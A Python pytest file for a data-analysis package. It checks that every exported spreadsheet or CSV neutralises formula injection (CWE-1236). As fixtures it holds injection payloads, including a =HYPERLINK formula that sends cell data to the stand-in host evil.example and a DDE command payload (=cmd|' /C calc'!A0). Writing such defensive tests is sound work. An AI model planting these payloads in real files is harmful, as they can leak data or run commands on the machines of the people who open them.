"""No export carries a live formula (CWE-1236): hostile text stays text, numbers stay numbers.

Every table the package writes for people to open (``validate -o``, ``validate --tidy``, the
catalogue, extraction outputs) goes through :func:`papi_analysis.atomic.write_tables`.  A
text that a spreadsheet would run (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``+1``, ``-2+3``,
``@SUM(…)``, a leading tab or CR) is written inert: in ``.xlsx`` a text cell (never
``data_type 'f'``), in ``.csv`` with a leading ``'``.
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from papi_analysis import atomic, cli
from papi_analysis.intake import submissions

try:  # works whether or not tests/ is a package
    from .broken_inputs import GOOD_TTHC, TTHC_FIRST_ROW, form_workbook, set_saved_formula
except ImportError:
    from broken_inputs import GOOD_TTHC, TTHC_FIRST_ROW, form_workbook, set_saved_formula

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0",
           "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _no_formula_cells(path: Path) -> list:
    wb = openpyxl.load_workbook(path)
    live = [(ws.title, c.coordinate, c.value) for ws in wb.worksheets
            for row in ws.iter_rows() for c in row if c.data_type == "f"]
    return live


def _csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _texts(path: Path) -> list:
    wb = openpyxl.load_workbook(path)
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_write_table_makes_hostile_text_inert_and_keeps_numbers(tmp_path, suffix):
    df = pd.DataFrame({"text": HOSTILE + ["bình thường"],
                       "value": [1, -5, 2.5, 0, 7, -1, 3, 4]})
    path = atomic.write_table(df, tmp_path / f"t{suffix}", "t")
    if suffix == ".xlsx":
        assert _no_formula_cells(path) == []
        ws = openpyxl.load_workbook(path)["t"]
        assert [ws.cell(r, 1).value for r in range(2, 10)] == HOSTILE + ["bình thường"]
        assert [ws.cell(r, 2).value for r in range(2, 10)] == [1, -5, 2.5, 0, 7, -1, 3, 4]
        assert all(ws.cell(r, 2).data_type == "n" for r in range(2, 10))
        assert ws.cell(2, 1).quotePrefix
    else:
        rows = _csv_rows(path)
        cells = [r[0] for r in rows[1:] if r]
        for cell in cells:
            assert not cell.startswith(atomic.FORMULA_STARTS), cell
        assert "'=HYPERLINK(" in path.read_text(encoding="utf-8-sig")
        numbers = [r[1] for r in rows[1:] if len(r) > 1]
        assert [float(x) for x in numbers] == [1, -5, 2.5, 0, 7, -1, 3, 4]  # not quoted


def _hostile_csv(folder: Path) -> Path:
    path = folder / "hostile.csv"
    lines = ["agency,period,indicator,value,field,illustrative"]
    for i, text in enumerate(HOSTILE[:5]):
        quoted = '"' + text.replace('"', '""') + '"'
        lines.append(f"SKHCN,2024-H1,proc.total,{58 + i},{quoted},False")
    lines.append('"=HYPERLINK(""http://x"",""y"")",2024-H1,proc.total,1,,False')
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_validate_exports_carry_no_live_formula(tmp_path, capsys, suffix):
    src = _hostile_csv(tmp_path)
    findings, tidy = tmp_path / f"findings{suffix}", tmp_path / f"tidy{suffix}"
    code = cli.main(["validate", str(src), "-o", str(findings), "--tidy", str(tidy)])
    capsys.readouterr()
    assert code == 2  # the unknown agency "=HYPERLINK(…)" is an error
    for path in (findings, tidy):
        if suffix == ".xlsx":
            assert _no_formula_cells(path) == []
            assert any(isinstance(v, str) and v.startswith("=HYPERLINK") for v in _texts(path))
        else:
            for row in _csv_rows(path):
                for cell in row:
                    assert not cell.startswith(atomic.FORMULA_STARTS), (path.name, cell)


def test_a_tidy_export_reads_back_as_it_was(tmp_path, capsys):
    src = _hostile_csv(tmp_path)
    out = tmp_path / "tidy.csv"
    cli.main(["validate", str(src), "--tidy", str(out)])
    capsys.readouterr()
    first, back = submissions.read_many([src])[0], submissions.read_many([out])[0]
    assert sorted(back["field"]) == sorted(first["field"])
    assert "=cmd|' /C calc'!A0" in set(back["field"])


def test_indicator_catalogue_export_is_formula_safe(tmp_path, capsys):
    out = tmp_path / "catalogue.csv"
    assert cli.main(["indicators", "-o", str(out)]) == 0
    for row in _csv_rows(out):
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell


def test_a_label_cell_with_a_formula_is_read_as_its_saved_value(tmp_path, capsys):
    path = form_workbook(tmp_path, "label_formula.xlsx", {},
                         fields={"Hoạt động khoa học": {3: 9, 4: 9, 5: 0, 6: 0}})
    set_saved_formula(path, f"B{TTHC_FIRST_ROW}", '=HYPERLINK("http://evil.example","x")',
                      "Hoạt động khoa học")
    df = submissions.read(path)
    assert set(df["field"]) - {""} == {"Hoạt động khoa học"}  # "" is the total row
    out = tmp_path / "tidy.xlsx"
    cli.main(["validate", str(path), "--tidy", str(out)])
    capsys.readouterr()
    assert _no_formula_cells(out) == []
    assert not any(isinstance(v, str) and "HYPERLINK" in v for v in _texts(out))


def test_good_form_still_reads_after_export_roundtrip(tmp_path):
    path = form_workbook(tmp_path, "ok.xlsx", GOOD_TTHC)
    df = submissions.read(path)
    out = submissions.write_tidy(df, tmp_path / "ok_tidy.xlsx")
    back = submissions.read(out)
    assert sorted(back["value"]) == sorted(df["value"])


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_extract_outputs_carry_no_live_formula(tmp_path, suffix):
    from papi_analysis.prose import extraction

    hostile = pd.DataFrame({"agency": ["SKHCN"], "period": ["2024-H1"],
                            "indicator": ["proc.total"], "value": [58],
                            "field": ["=HYPERLINK(\"http://evil.example\",\"x\")"]})
    side = pd.DataFrame({"message_vi": ["=cmd|' /C calc'!A0"]})
    out = tmp_path / f"out{suffix}"
    written = extraction.write_outputs([out], [], hostile, side, side)
    for path in written:
        if suffix == ".xlsx":
            assert _no_formula_cells(path) == []
        else:
            for row in _csv_rows(path):
                for cell in row:
                    assert not cell.startswith(atomic.FORMULA_STARTS), (path.name, cell)
